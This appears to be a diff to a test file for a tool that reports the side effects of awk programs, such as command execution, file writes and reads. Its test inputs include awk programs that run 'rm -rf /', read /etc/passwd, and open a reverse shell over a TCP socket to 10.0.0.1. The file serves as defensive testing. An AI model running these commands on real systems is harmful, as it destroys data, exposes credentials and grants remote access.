@@ -5,7 +5,13 @@ checkCases("awk", [
   ['BEGIN{system("rm -rf /")}', "sh: rm -rf /"],
   ["{print $1}"],
   ['BEGIN { cmd = "rm" " -rf /"; cmd | getline; print "x" | "sh" }', "sh: rm -rf /", "sh: sh << x"],
-  ['/foo/ {print $2 > "/tmp/out"} END {print s >> "/etc/x"}', "write /tmp/out", "write /etc/x"],
+  [
+    '/foo/ {print $2 > "/tmp/out"} END {print s >> "/etc/x"}',
+    "write /tmp/out",
+    "put /tmp/out << ?\n",
+    "write /etc/x",
+    "put /etc/x <<+ ?\n",
+  ],
   ['BEGIN { while ((getline line < "/etc/passwd") > 0) print line }', "read /etc/passwd"],
   [
     'BEGIN {s="/inet/tcp/0/10.0.0.1/4242"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}',
